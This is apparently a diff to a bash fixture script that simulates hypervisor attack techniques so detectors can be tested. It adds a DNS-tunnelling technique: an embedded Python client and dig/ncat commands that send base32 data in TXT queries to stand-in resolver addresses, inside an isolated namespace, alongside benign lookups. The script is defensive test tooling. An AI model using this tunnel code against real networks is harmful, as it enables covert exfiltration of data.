@@ -15,7 +15,9 @@
 #   user  hvop, a libvirt-group member, unprivileged (setpriv --reuid hvop)   user2  the same, hvop2
 #
 # Network traffic goes only to 127.0.0.1 and 192.0.2.10 (TEST-NET-1, unreachable); netfilter,
-# bridge, tap and sysctl changes happen inside the private network namespace $NETNS.
+# bridge, tap and sysctl changes happen inside the private network namespace $NETNS. DNS goes out
+# of that namespace's dummy interface (10.78.0.2/24, default route; nothing answers), and its
+# resolv.conf (/etc/netns/$NETNS/resolv.conf) names the resolver 10.78.0.53: DNS_RESOLVER below.
 
 # shellcheck shell=bash disable=SC2034  # the tables below are read by the recording script
 
@@ -31,21 +33,23 @@ declare -A AREA=(
   [qemu_bin]=firmware [migrate]=migration [guest_exec]=agent [guest_file]=agent [monitor_cmd]=monitor
   [qemu_child_shell]=escape [qemu_child_binary]=escape [vnc_exposed]=escape
   [audit_disable]=tamper [audit_rules_removed]=tamper [hv_state]=tamper [kmod]=tamper
+  [dns_tunnel]=dns
 )
 TECHNIQUES=(vm_disk_read disk_exfil disk_mount qemu_img_copy virsh_disk_copy ptrace_qemu process_vm_readv proc_mem
   memory_dump kvm_open vfio_bind qemu_ga_host domain_xml_edit passthrough qemu_cmdline hook_script secret_read qemu_conf
   libvirt_sock group_grant polkit libvirtd_conf nft_vm iptables_vm tap_bridge promisc sysctl_forward snapshot_delete
   vm_destroy vm_undefine qemu_bin migrate guest_exec guest_file monitor_cmd qemu_child_shell qemu_child_binary
-  vnc_exposed audit_disable audit_rules_removed hv_state kmod)
+  vnc_exposed audit_disable audit_rules_removed hv_state kmod dns_tunnel)
 declare -A ACTOR_A=([libvirt_sock]=user [snapshot_delete]=user [vm_destroy]=user [vm_undefine]=user)
 declare -A ACTOR_B=([libvirt_sock]=user2 [vm_destroy]=user2 [vm_undefine]=user2 [snapshot_delete]=root)
-BENIGN=(disk memory devices config access network recovery firmware agent tamper escape)
+BENIGN=(disk memory devices config access network recovery firmware agent tamper escape dns)
 
 IMG=/var/lib/libvirt/images/hvfx-vm1.qcow2      # the disk of the guest hvfx-vm1 (runs when a scenario needs it)
 DATA=/var/lib/libvirt/images/hvfx-data.qcow2    # a guest disk not in use: the one that is stolen
 as_user() { setpriv --reuid=hvop --regid=hvop --init-groups "$@"; }
 as_user2() { setpriv --reuid=hvop2 --regid=hvop2 --init-groups "$@"; }
 in_ns() { ip netns exec "$NETNS" "$@"; }
+DNS_RESOLVER=10.78.0.53   # the namespace's configured resolver (test/detectors/hv-techniques.test.ts uses it too)
 V() { virsh -q -c qemu:///system "$@"; }
 qemu_idle() { qemu-system-x86_64 -machine none -nodefaults -display none -monitor none -serial none -S "$@" & QPID=$!; sleep 0.6; }
 vm1_pid() { cat /run/libvirt/qemu/hvfx-vm1.pid; }
@@ -395,6 +399,47 @@ n_tamper() {
 }
 post_n_tamper() { rm -rf /var/lib/hv/hvfx-state; }
 n_escape() { qemu-system-x86_64 --version >/dev/null; qemu-system-x86_64 -machine help >/dev/null; V start hvfx-vm2; sleep 1; V destroy hvfx-vm2; }
+
+# ---------------------------------------------------------------------------------------------
+# DNS tunnelling / exfiltration straight to a resolver that is not the configured one (the
+# namespace's resolv.conf names $DNS_RESOLVER; nothing answers: the queries leave and are lost).
+
+# A script: one connected UDP socket, 40 TXT queries whose names carry 189 bytes of base32 data
+# each (three 63-byte labels), as a tunnel client does.
+a_dns_tunnel() {
+  in_ns python3 - 10.78.0.99 <<'PY'
+import base64, os, socket, struct, sys
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+s.connect((sys.argv[1], 53))
+for i in range(40):
+    data = base64.b32encode(os.urandom(120)).decode().rstrip("=").lower()[:189]
+    labels = [data[j:j + 63] for j in range(0, len(data), 63)] + ["t", "hvfx", "example"]
+    qname = b"".join(bytes([len(l)]) + l.encode() for l in labels) + b"\0"
+    try: s.send(struct.pack(">HHHHHH", i, 0x0100, 1, 0, 0, 0) + qname + struct.pack(">HH", 16, 1))
+    except OSError: pass   # an ICMP "port unreachable" from an earlier query
+print("sent", i + 1)
+PY
+}
+# Tools: dig and ncat at a documentation-range address, long data-carrying names.
+b_dns_tunnel() {
+  local i label
+  for i in 1 2 3 4 5 6; do
+    label=$(head -c 45 /dev/urandom | base32 -w0 | tr -d = | tr 'A-Z' 'a-z' | cut -c1-63)
+    in_ns dig @198.51.100.53 +tries=1 +time=1 +retry=0 "$label.$i.x.hvfx.example" TXT >/dev/null || true
+  done
+  head -c 600 /dev/urandom | in_ns timeout 2 ncat -u 198.51.100.53 53 || true
+}
+# Ordinary lookups through the configured resolver (glibc, Python, host, dig without @), and a
+# query to a local stub resolver (systemd-resolved's 127.0.0.53; nothing listens here).
+n_dns() {
+  in_ns getent ahosts www.hvfx.example >/dev/null || true
+  in_ns python3 -c 'import socket
+try: socket.getaddrinfo("mirror.hvfx.example", 443)
+except OSError as e: print(e)' || true
+  in_ns host -W 1 deb.hvfx.example >/dev/null || true
+  in_ns dig +tries=1 +time=1 +retry=0 hvfx.example >/dev/null || true
+  dig @127.0.0.53 +tries=1 +time=1 +retry=0 hvfx.example >/dev/null || true
+}
 
 vm1_running() {
   [[ $(V domstate hvfx-vm1 2>/dev/null) == running ]] && return 0
